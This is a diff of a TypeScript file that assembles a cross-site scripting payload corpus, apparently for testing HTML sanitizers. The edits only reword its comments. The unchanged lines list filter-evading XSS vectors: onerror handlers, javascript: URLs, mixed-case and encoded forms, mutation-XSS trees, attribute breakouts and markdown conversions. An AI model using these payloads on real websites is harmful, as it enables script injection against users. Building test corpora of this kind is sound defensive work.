@@ -1,11 +1,11 @@
 /**
- * Texts that run `pwn()` where a page takes them for markup, an address, a style or a program. Put together from vectors
- * (what runs), ways to write them (what a filter overlooks) and contexts (what has to be closed first).
+ * Texts that run `pwn()` where a page treats them as markup, an address, a style or a program. Built from vectors (what
+ * runs), ways to write them (what a filter overlooks) and contexts (what must be closed first).
  */
 
 const run = "pwn()";
 
-/** Elements that run something by themselves once they are markup. */
+/** Elements that run something automatically once they are markup. */
 const selfStarters = [
   `<script>${run}</script>`,
   `<script src="data:text/javascript,${run}"></script>`,
@@ -73,7 +73,7 @@ const selfStarters = [
   `<noscript><img src=x onerror=${run}></noscript>`,
 ];
 
-/** Elements that run something when somebody presses, sends or points. */
+/** Elements that run something when someone clicks, submits or points. */
 const pressed = [
   `<a href="javascript:${run}">x</a>`,
   `<a href="javascript:${run}" target=_blank>x</a>`,
@@ -97,7 +97,7 @@ const pressed = [
   `<video controls oncontextmenu=${run} src=x>x</video>`,
 ];
 
-/** One address that runs something, in writings that filters have let pass. */
+/** Addresses that run something, written in ways that filters have let through. */
 const addresses = [
   "JaVaScRiPt:pwn()",
   " javascript:pwn()",
@@ -137,7 +137,7 @@ const addresses = [
   "//example.invalid/%2e%2e/javascript:pwn()",
 ].map((address) => `<a href="${address}">x</a>`);
 
-/** Ways to write one element so that a filter reads another than the browser. */
+/** Ways to write one element so that a filter parses it differently from the browser. */
 const writings = [
   `<IMG SRC=x ONERROR=${run}>`,
   `<iMg SrC=x OnErRoR=${run}>`,
@@ -197,7 +197,7 @@ const writings = [
   `${"<div>".repeat(60)}<svg onload=${run}>`,
 ];
 
-/** Trees that change when they are written and read again. */
+/** Trees that change when they are serialized and parsed again. */
 const mutating = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
   `<math><mtext><table><mglyph><style><math><img src=x onerror=${run}></style></table>`,
@@ -231,7 +231,7 @@ const mutating = [
   `<div id=x><a href='&#34;><img src=x onerror=${run}>'>x</a></div>`,
 ];
 
-/** What must be closed first, where a text stands inside something else. */
+/** Texts that first close what surrounds them. */
 const breakouts = [
   `"><img src=x onerror=${run}>`,
   `'><img src=x onerror=${run}>`,
@@ -289,7 +289,7 @@ const styles = [
   `<div class="fixed inset-0 z-50" id="root">x</div>`,
 ];
 
-/** Markdown, mail and link writings that other layers may turn into markup. */
+/** Markdown, email and link syntax that other layers may turn into markup. */
 const converted = [
   `[x](javascript:${run})`,
   `![x](x"onerror="${run})`,
@@ -303,7 +303,7 @@ const converted = [
   `BEGIN:VEVENT\r\nURL:javascript:${run}\r\nEND:VEVENT`,
 ];
 
-/** Every text of the corpus, each once. */
+/** All texts of the corpus, without duplicates. */
 export const xssCorpus: string[] = [
   ...new Set([
     ...selfStarters,
